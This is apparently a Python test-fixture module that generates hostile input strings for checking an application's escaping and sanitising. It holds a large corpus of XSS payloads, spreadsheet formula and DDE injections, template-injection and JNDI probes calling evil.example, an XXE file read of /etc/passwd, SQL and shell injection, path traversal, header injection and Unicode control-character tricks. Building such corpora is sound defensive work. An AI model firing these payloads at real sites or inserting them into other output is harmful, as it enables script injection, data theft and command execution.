"""The texts themselves: scripts, handlers, markup, styles, formulas, templates, signs that turn what stands beside them."""

# ruff: noqa: E501 - each text stands in a line of its own

from __future__ import annotations

import random
import re
from urllib.parse import quote

_RUNS = ("window.__ran=N", "alert(N)", "fetch('https://evil.example/N')", "window['__r'+'an']=`N`", "print(N)")
_TEXTS = """
<script>RUN</script>
<ScRiPt >RUN</sCrIpT >
</script><script>RUN</script>
</textarea></title></style></noscript><script>RUN</script>
--><script>RUN</script><!--
]]><script>RUN</script>
<script src=//evil.example/N.js></script>
<script type=module>import("https://evil.example/N")</script>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<img src=x onerror=RUN>
<img/src=`x`/onerror=RUN//
<img src=https://evil.example/N.png>
<img srcset="https://evil.example/N 1x">
<body onload=RUN>
<details open ontoggle=RUN>x
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN><option>
<video autoplay onloadstart=RUN><source onerror=RUN src=x>
<audio src=x onerror=RUN>
<marquee onstart=RUN>
<div onpointerover=RUN style=position:fixed;inset:0>
<div contenteditable autofocus onfocus=RUN tabindex=0>
<a href="javascript:RUN" id=x autofocus>x</a>
<a href=" &#x6a;avascript:RUN">x</a>
<form action="javascript:RUN"><button>x</button></form>
<button formaction=javascript:RUN autofocus>x
<iframe src="javascript:parent.RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src="https://evil.example/N.swf">
<base href=https://evil.example/>
<meta http-equiv=refresh content="0;url=https://evil.example/N">
<link rel=stylesheet href=https://evil.example/N.css>
<link rel=prefetch href=https://evil.example/N>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<dialog open><form method=dialog><button onclick=RUN>Close</button></form></dialog>
" onmouseover="RUN" x="
' autofocus onfocus='RUN' x='
" autofocus tabindex=1 onfocus=RUN x="
"><img src=x onerror=RUN>
'><svg onload=RUN>
` onload=RUN `
x" accesskey=x onclick=RUN y="
<svg onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:RUN /><a><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"></use></svg>
<svg><foreignObject><iframe src=javascript:RUN></iframe></foreignObject></svg>
<svg><image href=https://evil.example/N.svg />
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math href=javascript:RUN>x</math>
<style>*{background:url(https://evil.example/N)!important}</style>
</style><style>@import 'https://evil.example/N';</style>
" style="position:fixed;inset:0;z-index:99;background:url(https://evil.example/N)" x="
<div style="width:99999px;height:99999px">x</div>
<style>body{display:none}main *{position:fixed}</style>
<p style="x:expression(RUN)">
=cmd|'/c calc'!A0
=HYPERLINK("https://evil.example/N","see")
=WEBSERVICE("https://evil.example/N")
=IMPORTXML("https://evil.example/N","//a")
=1+1
+1+1
-2+3
@SUM(1+1)*cmd|' /C calc'!A0
＝1+1
＋1+1
 =1+1
'=1+1
''=1+1
"=1+1
;=1+1
,=1+1
|=1+1
x;=HYPERLINK("https://evil.example/N")
{=1+1}
_x003D_1+1
_x000D_=1+1
%=1+1
=DDE("cmd";"/C calc";"N")
-cmd|'/c calc'!A0
{{7*7}}{{config}}
{{ request.app.state.desk.__class__.__mro__ }}
{% include "/etc/passwd" %}{% for x in y %}
${7*7}${jndi:ldap://evil.example/N}
<%= 7*7 %>#{7*7}[[${7*7}]]
%s%n%x{0}{0.__class__}{}
{{ 'x' | safe }}{# x #}
{%- raw -%}{{ x }}
<div hx-get="https://evil.example/N" hx-trigger="load">
<div hx-get="/settings/people" hx-trigger="load" hx-target="body">
<div data-hx-post="/settings/people/remove" data-hx-trigger="load">
<div hx-on:load="RUN" hx-on::before-request="RUN">
<div hx-trigger="load[RUN]" hx-get="/">
<form hx-post="/inbox/act" hx-vals='js:{x:RUN}' hx-trigger="load">
" hx-get="https://evil.example/N" hx-trigger="load" x="
" hx-on:click="RUN" hx-trigger="load" x="
<meta name="htmx-config" content='{"allowEval":true}'>
<div hx-swap-oob="innerHTML:body"><script>RUN</script></div>
" data-send data-undo="/settings/people/remove" data-key="j" x="
"}],"x":[{"y":"
"};RUN;//
';RUN;//
\\";RUN;//
\\u003cscript\\u003eRUN\\u003c/script\\u003e
&lt;script&gt;RUN&lt;/script&gt;
&#60;img src=x onerror=RUN&#62;
&quot; onload=&quot;RUN
&amp;lt;script&amp;gt;RUN
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
<![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>
<!--<img src="--><img src=x onerror=RUN//">
<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
'; DROP TABLE mentions; -- N
" OR ""="
$(touch /tmp/evil-N)`touch /tmp/evil-N`
../../../../etc/passwd
status=open&brand=x#y?z
NEAR(a b, 3) AND (" OR * NOT ^
javascript:RUN
[x](javascript:RUN) ![x](https://evil.example/N)
<https://evil.example/N> www.evil.example/N
""".strip("\n").split("\n")
_SIGNS = (
    "\u202eevil\u202c txt.exe\u202e", "\u2066\u2067\u2068\u202b" * 20, "مرحبا \u202e=1+1\u202c 123", "\u200f\u200e" * 30,
    "\u200b".join("script"), "<\u200bscript>RUN<\u200b/script>", "Z" + "\u0301\u0322\u0353\u0334" * 120, "\ufeff=1+1", "\u00a0=1+1",
    "\u200b=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "a\n=1+1\n@SUM(1)", "\x00", "a\x00<script>RUN</script>", "<scr\x00ipt>RUN</script>",
    "java\tscript:RUN", "\x01javascript:RUN", "\x1b[2J\x1b]0;evil\x07", "\x7f\x80\x85\x9b", "x\r\nSet-Cookie: evil=1\r\n\r\n<script>RUN</script>",
    "\u2028RUN\u2029", "\ufffe\uffff\U0001fffe", "\ud800", "a\udfff<script>RUN</script>\ud800", "\ud83d", "W" * 4000, "ﷺ" * 200,
    "👩‍👩‍👧‍👦" * 120, "\n" * 300 + "x", " " * 2000 + "x", "\u3164" * 40, "﷽" * 60, "i" * 120 + "\u00ad" * 200, "<" * 2000, "&" * 2000, "\"'`" * 300,
    "\\" * 500, "%" * 500, "﹤script﹥RUN﹤/script﹥", "＜script＞RUN＜/script＞", "ʺ onload=RUN", "\u0000=1+1", "\v=1+1", "\f=1+1",
    "\x01=1+1", "\x1b=1+1", "\x7f=1+1", "\x9f=1+1", "\u2060=1+1", "\u202e=1+1", "\ufffe=1+1", "\ufe0f=1+1", "\x00'=1+1", "'\x00=1+1", "\x00\t=1+1", "a\n\x00=1+1", "\u180e=1+1", "\U000e0001=1+1",
)  # fmt: skip
_ADDRESSES = """
javascript:RUN
JaVaScRiPt:RUN
javascript://evil.example/%0aRUN
data:text/html,<script>RUN</script>
vbscript:RUN
//evil.example/N
https://a:b@evil.example/N
http://[
https://evil.example/"onmouseover="RUN
https://evil.example/'><script>RUN</script>
https://evil.example/N?=1+1
file:///etc/passwd
blob:https://evil.example/N
view-source:javascript:RUN
=HYPERLINK("https://evil.example/N")
https://evil.example/\u202egnp.N
https://evil.example/\x00N
 javascript:RUN
https://ev\u0131l.example/N
mailto:x@evil.example?body=<script>RUN</script>
""".strip("\n").split("\n")
ROOM = 32  # characters that a text may have more than a name


def texts(count: int, seed: int = 7) -> list[str]:
    """So many texts, each another: first every kind as it is, then grown by what breaks out of where they may stand."""
    chance = random.Random(seed)
    kinds_of = [*_TEXTS, *_SIGNS]
    found: dict[str, None] = {}
    number = 0
    while len(found) < count:
        text = kinds_of[number % len(kinds_of)]
        if number >= len(kinds_of):
            text = _grown(text, chance)
        found[_armed(text, number)] = None
        number += 1
    return list(found)


def addresses(count: int) -> list[str]:
    """So many addresses that should never be opened by a click."""
    return [_armed(_ADDRESSES[number % len(_ADDRESSES)], number) for number in range(count)]


def _armed(text: str, number: int) -> str:
    run = _RUNS[number % len(_RUNS)]
    return re.sub(r"\bN\b", str(number), text.replace("RUN", run))


def _grown(text: str, chance: random.Random) -> str:
    out = ("", '">', "'>", "-->", "</textarea>", "</script>", "</style>", "</title>", "</select>", "`}", "*/", "\u202e", " ", "\x00", "&#62;", "?>", "]]>")  # fmt: skip
    other = chance.choice(_TEXTS)
    ways = (
        lambda: chance.choice(out) + text,
        lambda: text + chance.choice(out) + other,
        lambda: "".join(c.upper() if chance.random() < 0.5 else c for c in text),
        lambda: text.replace("<", "&lt;", 1) + text,
        lambda: text.replace(" ", chance.choice("\t\n\f/")),
        lambda: chance.choice(out) + quote(text, errors="replace") + text,
        lambda: text.replace("<", "<" + chance.choice("\u200b\x00/!")) + text,
        lambda: f"{chance.randrange(10**6)} {text} {chance.choice(out)}",
    )
    return str(chance.choice(ways)())


def fitted(text: str, most: int, banned: str = "") -> str:
    """The text as a name that the desk takes: printable, short, without what is refused there."""
    plain = " ".join("".join(c if c.isprintable() and c not in banned else " " for c in text).split())
    return plain[:most].strip(" -.") or "plain"
